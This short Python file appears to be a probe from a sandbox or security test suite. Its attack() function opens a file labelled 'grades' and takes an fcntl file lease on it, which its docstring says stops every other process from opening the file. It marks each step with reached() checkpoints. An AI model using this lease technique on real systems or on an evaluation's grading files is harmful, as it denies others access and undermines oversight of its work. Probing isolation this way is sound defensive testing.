"""takes a lease on the grades, which stops every other opener"""

import fcntl
import os


def attack():
    fd = os.open(TARGETS["grades"], os.O_RDONLY)
    reached("the grades are open")
    fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    if fcntl.fcntl(fd, fcntl.F_GETLEASE) == fcntl.F_RDLCK:
        reached("a lease is taken")
